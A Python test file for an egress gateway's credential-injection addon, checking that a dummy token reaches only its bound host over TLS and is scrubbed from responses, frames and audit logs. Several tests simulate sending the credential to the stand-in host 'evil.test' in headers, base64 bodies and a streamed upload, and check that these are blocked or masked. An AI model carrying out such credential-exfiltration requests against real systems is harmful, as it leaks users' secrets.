"""The credential addon in process (`taddons`/`tflow`), after EgressAddon as in the proxy: the real value goes in
only on the way to a bound host over TLS, comes back out of responses and frames, and never leaves elsewhere."""
from __future__ import annotations

import base64
from contextlib import AsyncExitStack

import pytest
from mitmproxy import http, websocket
from mitmproxy.proxy.layers.http import HttpRequestHeadersHook, HttpRequestHook
from mitmproxy.test import taddons, tflow

from gateway.config import EgressSettings
from gateway.net.addresses import parse_networks
from gateway.egress.flows import flow_state
from tests.support.services import egress_addons, open_services

REAL = "ghp_" + "R" * 36
SECRETS = {"github": {"source": "env:GH", "hosts": ["api.github.test"], "inject_in": ["header", "query", "body"]}}
NAMES = {"api.github.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"]}


@pytest.fixture
async def world(tmp_path):
    async with AsyncExitStack() as stack:
        svc = await open_services(stack, tmp_path, secrets=SECRETS, environ={"GH": REAL})
        addons = await egress_addons(stack, svc, EgressSettings(private_allow=parse_networks(["127.0.0.0/8"])), NAMES)
        session, token = await svc.session(allow=["api.github.test", "evil.test"], secrets=["github"])
        yield svc, addons, session, token


async def through(addons, url: str, token: str, *, headers: dict | None = None, body: bytes = b"",
                  method: str = "POST") -> http.HTTPFlow:
    """The request hooks of every egress addon, dispatched by mitmproxy's addon manager in the proxy's order."""
    auth = "Basic " + base64.b64encode(f"sandgate:{token}".encode()).decode()
    flow = tflow.tflow(req=http.Request.make(method, url, body, {"Proxy-Authorization": auth}))
    for name, value in (headers or {}).items():         # as sent (a declared length may exceed what is here yet)
        flow.request.headers[name] = value
    flow.client_conn.sni = None
    with taddons.context(*addons.chain()) as tctx:
        await tctx.master.addons.trigger_event(HttpRequestHeadersHook(flow))
        await tctx.master.addons.trigger_event(HttpRequestHook(flow))
    return flow


async def test_the_real_value_goes_only_to_the_bound_host_and_comes_back_out(world):
    svc, addons, session, token = world
    ph = session["placeholders"]["github"]
    f = await through(addons, f"https://api.github.test/user?t={ph}", token,
                      headers={"Authorization": f"token {ph}", "Accept-Encoding": "gzip"}, body=f'{{"k": "{ph}"}}'.encode())
    assert f.response is None
    assert f.request.headers["Authorization"] == f"token {REAL}" and f.request.query["t"] == REAL
    assert REAL.encode() in f.request.raw_content and f.request.headers["accept-encoding"] == "identity"
    st = flow_state(f)
    assert st.secrets_used == ("github@body", "github@header:authorization", "github@query")
    f.response = http.Response.make(200, f"you are {REAL}".encode(), {"X-Echo": REAL})
    with taddons.context(*addons.chain()):
        addons.egress.responseheaders(f)
        addons.injection.responseheaders(f)
    assert f.response.headers["X-Echo"] == ph
    streamed = b"".join(b"".join(p) if isinstance(p, list) else p
                        for p in (f.response.stream(f"you are {REAL}".encode()), f.response.stream(b"")))
    assert streamed == f"you are {ph}".encode() and REAL.encode() not in streamed
    used = await svc.events(session["id"], kind="secret.use")
    assert used[0]["detail"] == {"secret": "github", "where": ["body", "header:authorization", "query"]}
    assert REAL not in repr(await svc.events(session["id"]))            # never in the audit


@pytest.mark.parametrize("url, where, code", [
    ("https://evil.test/", "header", "secret.exfiltration"),     # not bound to this host
    ("https://evil.test/", "body", "secret.exfiltration"),       # found in the body, in the request hook
    ("http://api.github.test/", "header", "secret.plaintext"),   # bound host, but cleartext
])
async def test_a_placeholder_headed_elsewhere_is_refused(world, url, where, code):
    svc, addons, session, token = world
    ph = session["placeholders"]["github"]
    headers = {"Authorization": f"Bearer {ph}"} if where == "header" else {}
    body = base64.b64encode(ph.encode()) if where == "body" else b""
    f = await through(addons, url, token, headers=headers, body=body)
    assert f.response.status_code == 403 and code.encode() in f.response.content
    assert REAL not in f.request.headers.get("Authorization", "") and REAL.encode() not in (f.request.raw_content or b"")
    assert [e["codes"] for e in await svc.events(session["id"], kind="exfiltration")] == [[code]]


async def test_a_compressed_response_is_withheld(world):
    _, addons, session, token = world
    f = await through(addons, "https://api.github.test/", token,
                      headers={"Authorization": f"token {session['placeholders']['github']}"})
    f.response = http.Response.make(200, b"\x1f\x8b...", {"Content-Encoding": "gzip"})
    with taddons.context(*addons.chain()):
        addons.egress.responseheaders(f)
        addons.injection.responseheaders(f)
    assert flow_state(f).scrub_blocked and f.response.status_code == 502
    assert f.response.stream(b"\x1f\x8b anything") == [] and b"secret.unscannable" in b"".join(f.response.stream(b""))


async def test_websocket_frames_carry_no_placeholder_out_and_no_value_in(world):
    svc, addons, session, token = world
    ph = session["placeholders"]["github"]
    f = await through(addons, "https://api.github.test/ws", token, method="GET",
                      headers={"Authorization": f"token {ph}"})
    f.websocket = websocket.WebSocketData()
    with taddons.context(*addons.chain()):
        f.websocket.messages.append(websocket.WebSocketMessage(1, True, f"send {ph}".encode()))
        addons.egress.websocket_message(f)
        addons.injection.websocket_message(f)
        assert f.websocket.messages[-1].dropped
        f.websocket.messages.append(websocket.WebSocketMessage(1, False, f"got {REAL}".encode()))
        addons.egress.websocket_message(f)
        addons.injection.websocket_message(f)
    assert f.websocket.messages[-1].content == f"got {ph}".encode()
    assert [e["action"] for e in await svc.events(session["id"], kind="exfiltration")] == ["deny"]


async def test_a_large_streamed_body_has_every_placeholder_blanked(world):
    svc, addons, session, token = world
    ph = session["placeholders"]["github"]
    f = await through(addons, "https://evil.test/upload", token, headers={"Content-Length": str(10 * 1024 * 1024)})
    assert f.response is None and callable(f.request.stream)
    out = f.request.stream(f"data {ph} more".encode())
    sent = b"".join(out) + b"".join(f.request.stream(b""))
    assert ph.encode() not in sent and flow_state(f).bytes_out == len(f"data {ph} more")
    assert [e["action"] for e in await svc.events(session["id"], kind="exfiltration")] == ["mask"]
